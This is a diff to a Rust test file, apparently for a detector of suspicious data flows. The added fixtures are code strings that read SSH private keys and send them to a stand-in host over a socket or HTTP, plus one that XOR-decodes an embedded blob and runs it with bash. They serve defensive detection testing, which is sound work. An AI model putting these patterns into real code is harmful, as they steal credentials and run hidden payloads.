@@ -22,6 +22,18 @@ fn a_folder_of_keys_is_followed_from_its_path_to_a_name_that_is_looked_up() {
                  let body = std::fs::read(&kept).unwrap(); ureq::post(\"https://x.example.invalid/a\").send_bytes(&body); }",
                 &["file.read > network.http"],
             ),
+            // parts that are pushed
+            (
+                "pub fn check(home: PathBuf) { let mut p = home.clone(); p.push(\".ssh\"); p.push(\"id_ed25519\"); let mut s = String::new(); std::fs::File::open(&p).unwrap().read_to_string(&mut s).unwrap();\n\
+                 let mut t = std::net::TcpStream::connect(\"x.example.invalid:443\").unwrap(); t.write_all(s.as_bytes()).unwrap(); }",
+                &["file.read > network.socket"],
+            ),
+            // a list of them
+            (
+                "const KEPT: [&str; 2] = [\".ssh/id_rsa\", \"notes.txt\"];\npub fn check(home: PathBuf) { let all: Vec<String> = KEPT.iter().filter_map(|p| std::fs::read_to_string(home.join(p)).ok()).collect();\n\
+                 minreq::post(\"https://x.example.invalid/\").with_body(all.join(\"\")).send().ok(); }",
+                &["file.read > network.http"],
+            ),
             // the name of another file in the same folder
             (
                 "pub fn check(home: PathBuf) { let dir = home.join(\".config\").join(\"tool\"); let body = std::fs::read(dir.join(\"a.toml\")).unwrap();\n\
@@ -104,6 +116,18 @@ fn digits_that_are_put_together_are_decoding() {
                  for p in raw.chunks(2) { body.push(((p[0] - b'a') << 4) | (p[1] - b'a')); }\n\
                  let out = Path::new(\"x\").join(\"check.sh\"); fs::write(&out, &body).unwrap(); Command::new(\"sh\").arg(&out).spawn().ok(); }",
                 &["decode.text > process.spawn [file]"],
+            ),
+            // the command is put together in steps
+            (
+                "use std::process::Command;\nfn main() { let blob = include_bytes!(\"a.bin\"); let mut out = Vec::new(); let mut k = 7u8; for b in blob.iter() { out.push(b ^ k); k = k.wrapping_add(3); }\n\
+                 let p = Path::new(\"x\").join(\"t\"); std::fs::write(&p, &out).unwrap(); let mut c = Command::new(\"bash\"); c.arg(&p); c.spawn().ok(); }",
+                &["decode.cipher > process.spawn [file]"],
+            ),
+            // what is checked is not run
+            (
+                "use std::process::Command;\nfn main() { let blob = include_bytes!(\"a.bin\"); let out: Vec<u8> = blob.iter().map(|b| b ^ 7).collect();\n\
+                 let p = Path::new(\"x\").join(\"t\"); std::fs::write(&p, &out).unwrap(); let mut c = Command::new(\"sha256sum\"); c.arg(&p); c.status().ok(); }",
+                &[],
             ),
             // numbers of two bytes are no text
             (
